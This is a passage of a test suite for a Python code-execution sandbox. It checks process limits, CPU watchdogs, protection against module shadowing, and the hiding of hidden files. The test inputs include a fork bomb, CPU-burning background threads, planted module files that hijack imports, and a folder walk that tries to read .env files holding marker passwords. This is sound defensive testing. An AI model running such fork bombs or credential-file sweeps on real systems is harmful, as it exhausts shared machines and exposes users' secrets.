    assert sandbox._process is not None and len(sandbox._process.processes()) <= 2  # nothing left running


def _in_namespace(pid_ns: str | None) -> list[str]:
    """Host processes still alive in a pid namespace (ended ones nobody collected yet hold nothing)."""
    found = []
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and os.readlink(f"/proc/{name}/ns/pid") == pid_ns:
                state = Path(f"/proc/{name}/stat").read_text().rsplit(")", 1)[1].split()[0]
                found += [name] if state not in ("Z", "X") else []
        except OSError:
            continue
    return found


def test_a_fork_bomb_ends_in_a_clean_restart_every_time(sandbox: Sandbox, unchanged: None) -> None:
    # A bomb that never stops forking is still forking at the time limit: the kernel is restarted. Its hundreds
    # of processes take a moment to die; the next kernel must neither share their sockets (they answered in the
    # old kernel's name) nor start while they still hold the CPU and the process slots.
    sandbox.send_frames({"df": pd.DataFrame({"a": [1, 2]})})
    limits = sandbox.limits
    try:
        for _ in range(3):
            old = sandbox._process
            assert old is not None
            sandbox.set_limits(dataclasses.replace(limits, timeout_s=3))
            result = sandbox.run("import os\nwhile True:\n    os.fork()")
            # The check below runs at the usual limit: a fresh kernel's first run (IPython's first-execution
            # set-up) can take over 3 s on a loaded two-core machine, and what it checks is the frames.
            sandbox.set_limits(limits)
            # Mostly the kernel does not answer the interrupt and is restarted; sometimes it does, and the
            # forked copies are stopped from outside and the kernel restarted too (its copies had its sockets).
            # Either way the limit is the one set, and nothing is left.
            assert result.error_name in (
                "TimeoutError",
                "KernelDied",
                "KernelGarbled",
                "LeftoverProcesses",
            ), (
                result,
                sandbox.warnings,
            )
            if result.error_name == "TimeoutError":
                assert "the 3 s time limit" in result.error_value  # the ask's own limit, not the default
            if result.restarted:  # the previous sandbox was gone before the next one started
                assert _in_namespace(old._pid_ns) == [], (result, sandbox.warnings)
            assert sandbox._process is not None, (result, sandbox.warnings)
            assert len(sandbox._process.processes()) <= 2, (result, sandbox._process.processes())
            after = sandbox.run("print(df.a.sum())")
            assert after.text() == "3\n", (after, sandbox.warnings)  # the frames are there
    finally:
        sandbox.set_limits(limits)


def test_a_process_left_running_is_stopped_even_where_a_thread_ended(
    sandbox: Sandbox, unchanged: None
) -> None:
    # After every run the parent looks for leftovers with two cheap reads (live processes, tasks). A thread that
    # ends while a process starts keeps the task count equal: the live-process count must still give it away.
    sandbox.run(
        "import threading, subprocess, sys\n_go = threading.Event()\n_t = threading.Thread(target=_go.wait)\n_t.start()"
    )
    assert sandbox.run("x = 1").ok  # the sandbox is settled with the waiting thread
    result = sandbox.run(
        "_go.set(); _t.join()\n_p = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)'])"
    )
    assert "[ci_magic stopped 1 process(es) the code left running]" in result.text(), result
    assert sandbox._process is not None and len(sandbox._process.processes()) <= 2


def test_processes_nobody_collects_restart_the_sandbox(sandbox: Sandbox) -> None:
    # Ended children the kernel never waits for cannot be killed, yet each holds a slot of the process limit.
    sandbox.send_frames({"df": pd.DataFrame({"a": [1, 2]})})
    result = sandbox.run("import os\nfor _ in range(40):\n    if os.fork() == 0:\n        os._exit(0)")
    assert result.error_name == "LeftoverProcesses" and result.restarted, result
    assert sandbox.run("print(df.a.sum())").text() == "3\n"  # a fresh kernel, the frames back
    assert sandbox._process is not None and sandbox._process.process_count() <= 2


def test_background_cpu_after_the_run_restarts_the_sandbox(sandbox: Sandbox) -> None:
    sandbox.send_frames({"df": pd.DataFrame({"a": [1, 2]})})
    started = sandbox.kernel.starts
    sandbox.run(
        "import threading\ndef burn():\n    while True:\n        pass\nthreading.Thread(target=burn, daemon=True).start()"
    )
    deadline = time.monotonic() + 30
    while sandbox.kernel.alive and time.monotonic() < deadline:
        time.sleep(0.5)
    assert not sandbox.kernel.alive, "a thread burning CPU after its execution was left running"
    assert sandbox.run("print(df.a.sum())").text() == "3\n"  # restarted, frames back
    assert sandbox.kernel.starts > started
    assert any("kept using the CPU" in w for w in sandbox.warnings)
    sandbox.warnings.clear()


def test_modules_in_the_working_folder_do_not_replace_installed_ones(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    # A pandas.py in the folder (the user's, or one an earlier ask's code wrote) used to be imported by the
    # sandbox's start-up code instead of pandas, breaking every later sandbox started there.
    folder = tmp_path_factory.mktemp("shadowing")
    folder.chmod(0o755)
    for name in ("pandas", "numpy", "json", "inspect", "_ci_child"):
        (folder / f"{name}.py").write_text("raise SystemExit('hijacked')\n")
    (folder / "helper.py").write_text("def answer():\n    return 42\n")
    with Sandbox(Limits(timeout_s=30), user_dir=folder) as sb:
        result = sb.run("import json, inspect, helper\nprint(pd.__name__, json.dumps([helper.answer()]))")
        assert result.text() == "pandas [42]\n", result  # installed modules win; the user's own still import
        assert sb.run("import pandas\nprint(pandas.__file__.startswith('/sandbox'))").text() == "False\n"


def test_hidden_files_past_the_walk_are_not_shown(tmp_path_factory: pytest.TempPathFactory) -> None:
    # The cover of hidden files is a walk with bounds; what it does not reach must not be readable.
    folder = tmp_path_factory.mktemp("deep")
    deep = folder / "a" / "b" / "c" / "d" / "e" / "f"
    deep.mkdir(parents=True)
    (deep / ".env").write_text("PASSWORD=deep-attack-marker")
    (deep / "data.csv").write_text("x\n1\n")
    wide = folder / "wide"
    wide.mkdir()
    for i in range(isolation.MAX_COVER_SCAN + 10):
        (wide / f"f{i:05}.txt").write_text("")
    (wide / "zz-sub").mkdir()
    (wide / "zz-sub" / ".env").write_text("PASSWORD=wide-attack-marker")
    (folder / "top.csv").write_text("x\n1\n")
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    with Sandbox(Limits(timeout_s=30), user_dir=folder) as sb:
        result = sb.run(
            "import os\nfound = []\nfor root, dirs, files in os.walk('.'):\n"
            "    for f in files:\n        try:\n            found.append(open(os.path.join(root, f)).read())\n"
            "        except OSError:\n            pass\nprint('marker' in ' '.join(found), os.path.exists('top.csv'))"
        )
        assert result.text() == "False True\n", result
        assert any("shown empty in the sandbox" in w for w in sb.warnings), sb.warnings


def test_background_cpu_in_bursts_with_rests_restarts_the_sandbox(sandbox: Sandbox) -> None:
    # Resting long enough between bursts used to reset the watchdog's count: CPU used while idle must add up.
    started = sandbox.kernel.starts
    sandbox.run(
        "import threading, time\ndef burst():\n    while True:\n        end = time.time() + 1\n"
        "        while time.time() < end:\n            pass\n        time.sleep(1.5)\n"
        "threading.Thread(target=burst, daemon=True).start()"
    )
    deadline = time.monotonic() + 40
    while sandbox.kernel.alive and time.monotonic() < deadline:
        time.sleep(0.5)
    assert not sandbox.kernel.alive, "bursts of CPU with rests between them were left running"
    assert sandbox.run("print(1)").text() == "1\n" and sandbox.kernel.starts > started
    sandbox.warnings.clear()


def test_sandbox_sees_the_view_it_should(sandbox: Sandbox) -> None:
    """The user's files are there, hidden ones and special files are not."""
    report = attack(
        sandbox,
        "import os, json\nprint(json.dumps({'work': sorted(os.listdir('.')), 'sub': sorted(os.listdir('sub')),"
        " 'root': sorted(os.listdir('/'))}))",
    )
    assert "data.csv" in report["work"] and ".env" not in report["work"]
    assert report["sub"] == [".git", "notes.txt"] or report["sub"] == ["notes.txt"]
    assert isolation.SANDBOX_ROOT.strip("/") in report["root"]
